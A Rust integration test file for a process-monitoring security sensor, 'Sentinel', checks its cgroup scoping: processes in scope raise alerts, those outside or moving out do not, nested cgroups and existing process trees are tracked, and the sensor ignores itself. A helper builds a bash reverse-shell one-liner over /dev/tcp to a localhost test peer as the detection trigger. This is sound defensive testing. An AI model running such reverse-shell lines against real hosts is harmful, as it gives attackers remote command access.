//! What is in scope is seen, what is not is not, and Sentinel never sees itself.

use std::{
    fs,
    process::{Child, Command, Stdio},
    time::Duration,
};

use sentinel_tests::{
    bed::Bed,
    peer::Peer,
    programs::compiled,
    sentinel::{Outcome, Sentinel, program, within},
};

/// A reverse shell to `peer` that ends at once.
fn shell_code(peer: &Peer) -> String {
    format!("bash >& /dev/tcp/127.0.0.1/{} 0>&1", peer.address().port())
}

fn finish(peer: &Peer, mut child: Child) {
    peer.shell().exit();
    child.wait().unwrap();
}

fn bash(code: &str) -> Command {
    let mut command = Command::new("bash");
    command.args(["-c", code]).stdin(Stdio::null()).stderr(Stdio::null());
    command
}

fn number_after(outcome: &Outcome, word: &str) -> u64 {
    let rest = outcome.output.split(word).nth(1).unwrap_or_else(|| panic!("{}", outcome.output));
    rest.split_whitespace().next().unwrap().parse().unwrap()
}

#[test]
fn a_process_outside_is_not_seen() {
    let Some(bed) = Bed::new() else { return };
    let sentinel = Sentinel::start(&bed, &[]);
    let peer = Peer::listen("127.0.0.1");
    finish(&peer, bash(&shell_code(&peer)).spawn().unwrap());
    let outcome = sentinel.stop();
    assert!(outcome.alerts.is_empty());
    assert_eq!(number_after(&outcome, "emitted "), 0);
}

#[test]
fn a_process_that_moves_in_is_seen_and_one_that_moves_out_is_not() {
    let Some(bed) = Bed::new() else { return };
    let sentinel = Sentinel::start(&bed, &[]);
    let peer = Peer::listen("127.0.0.1");
    let inside = bed.cgroup().join("cgroup.procs");
    let outside = bed.cgroup().with_file_name("cgroup.procs");
    let code = format!("echo $$ > {}; {}", inside.display(), shell_code(&peer));
    let child = bash(&code).spawn().unwrap();
    let pid = child.id();
    finish(&peer, child);
    let code = format!(
        "echo $$ > {}; echo $$ > {}; {}",
        inside.display(),
        outside.display(),
        shell_code(&peer)
    );
    finish(&peer, bash(&code).spawn().unwrap());
    let alerts = sentinel.stop().alerts;
    assert_eq!(alerts.len(), 1, "{alerts:#?}");
    assert!(alerts[0]["pid"] == pid || alerts[0]["ppid"] == pid, "{:#}", alerts[0]);
}

#[test]
fn a_child_cloned_into_a_nested_cgroup_is_seen() {
    let Some(bed) = Bed::new() else { return };
    let nested = bed.cgroup().join("nested");
    fs::create_dir(&nested).unwrap();
    let sentinel = Sentinel::start(&bed, &[]);
    let peer = Peer::listen("127.0.0.1");
    let child = Command::new(compiled("clone_into"))
        .arg(&nested)
        .args(["bash", "-c", &shell_code(&peer)])
        .stderr(Stdio::null())
        .spawn()
        .unwrap();
    finish(&peer, child);
    let alerts = sentinel.stop().alerts;
    assert!(within(Duration::from_secs(5), || fs::remove_dir(&nested).is_ok()));
    assert_eq!(alerts.len(), 1, "{alerts:#?}");
}

#[test]
fn a_tree_is_seen_from_its_root_down() {
    let Some(bed) = Bed::new() else { return };
    let peer = Peer::listen("127.0.0.1");
    let go = bed.path("go");
    nix::unistd::mkfifo(&go, nix::sys::stat::Mode::S_IRWXU).unwrap();
    // The one that attacks is a grandchild that runs before the sensor does.
    let code = format!("bash -c 'read -r < {}; {}'; :", go.display(), shell_code(&peer));
    let root = bash(&code).spawn().unwrap();
    let pid = root.id();
    let children = format!("/proc/{pid}/task/{pid}/children");
    assert!(within(Duration::from_secs(5), || {
        fs::read_to_string(&children).is_ok_and(|text| !text.is_empty())
    }));
    let attach = format!("--attach-pid={pid}");
    let sentinel = Sentinel::start_as(&bed, Command::new(program()), &[&attach]);
    fs::write(&go, "go\n").unwrap();
    finish(&peer, root);
    finish(&peer, bash(&shell_code(&peer)).spawn().unwrap());
    let alerts = sentinel.stop().alerts;
    // A snapshot may find the shell between its redirection and its program, which is told as well, as less.
    let is_worst = |alert: &&serde_json::Value| alert["severity"] == "critical";
    assert_eq!(alerts.iter().filter(is_worst).count(), 1, "{alerts:#?}");
    assert!(alerts.iter().all(|alert| alert["pid"] == alerts[0]["pid"]), "{alerts:#?}");
}

#[test]
fn sentinel_does_not_see_itself() {
    let Some(bed) = Bed::new() else { return };
    let scope = format!("--scope-cgroup={}", bed.cgroup().display());
    let inside = bed.command(program());
    let sentinel = Sentinel::start_as(&bed, inside, &[&scope]);
    let members = bed.members();
    for pid in [sentinel.pid(), sentinel.loader(), sentinel.enforcer()] {
        assert!(members.contains(&i32::try_from(pid).unwrap()), "all run inside the scope");
    }
    std::thread::sleep(Duration::from_secs(1));
    let outcome = sentinel.stop();
    assert!(number_after(&outcome, "seen ") > 0);
    assert_eq!(number_after(&outcome, "emitted "), 0, "{}", outcome.output);
}
